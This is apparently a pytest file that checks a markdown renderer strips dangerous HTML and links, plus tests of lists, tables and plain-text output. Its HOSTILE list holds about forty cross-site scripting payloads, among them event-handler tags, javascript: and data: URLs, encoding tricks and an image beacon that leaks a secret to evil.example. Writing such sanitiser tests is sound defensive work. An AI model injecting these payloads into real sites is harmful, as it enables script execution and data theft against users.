from __future__ import annotations

import re

import pytest

from knowledge.markdown import plain, render

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>body{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=p></form>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<details open ontoggle=alert(1)>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/a)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](https://good.example@evil.example/)",
    "[x](<javascript:alert(1)>)",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](https://a.example 'onclick=alert(1)')",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/?d=SECRET)",
    "![x](//evil.example/x.png)",
    "![x][1]\n\n[1]: https://evil.example/x.png",
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
    '```"><script>alert(1)</script>\nx\n```',
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "`<script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<?php alert(1) ?><![CDATA[<script>alert(1)</script>]]>",
]
OPENING_TAG = re.compile(r"<([a-z0-9]+)((?:\s[^>]*)?)>", re.IGNORECASE)
LINK = re.compile(r' href="(?:https?://[^"@]+|/[^/"\\][^"]*)"')


@pytest.mark.parametrize("payload", HOSTILE)
def test_it_lets_nothing_act_or_load(payload: str) -> None:
    html = render(payload)
    for tag, attributes in OPENING_TAG.findall(html):
        rest = LINK.sub("", attributes)
        rest = rest.replace(' target="_blank"', "").replace(' rel="noopener noreferrer nofollow"', "")
        assert not rest.strip(), html
        assert tag not in {
            "script",
            "img",
            "svg",
            "iframe",
            "style",
            "form",
            "input",
            "meta",
            "math",
            "details",
        }


def test_it_shows_an_images_words_and_not_the_image() -> None:
    assert render("看 ![说明图](https://evil.example/?d=1) 这里") == "<p>看 说明图 这里</p>"


def test_it_links_to_web_pages_and_to_paths_of_the_same_site() -> None:
    html = render("[政策](/help/returns?a=1#b) [官网](https://example.com/x)")
    assert 'href="/help/returns?a=1#b"' in html
    assert 'href="https://example.com/x"' in html
    assert html.count('rel="noopener noreferrer nofollow"') == html.count('target="_blank"') == 2


def test_it_makes_no_link_of_a_bare_address() -> None:
    assert "<a" not in render("见 https://example.com/x 或 www.example.com")


def test_it_renders_lists_tables_and_emphasis() -> None:
    html = render("**运费**\n\n1. 一\n2. 二\n\n| 型号 | 保修 |\n| --- | --- |\n| A | 1 年 |")
    for piece in ("<strong>运费</strong>", "<ol>", "<li>二</li>", "<th>型号</th>", "<td>1 年</td>"):
        assert piece in html


def test_it_keeps_line_breaks_and_plain_angle_brackets() -> None:
    assert render("第一行\n第二行，1 < 2") == "<p>第一行<br>\n第二行，1 &lt; 2</p>"


def test_it_renders_nothing_as_nothing() -> None:
    assert render("") == ""


def test_a_quotation_is_words_alone() -> None:
    text = "## 退货\n\n**七天**内可退，见[政策](/help)。\n\n- 发票 <b>x</b> & 收据"
    assert plain(text) == "退货 七天内可退，见政策。 发票 <b>x</b> & 收据"
    assert plain("2 * 3 * 4") == "2 * 3 * 4" and plain("") == ""
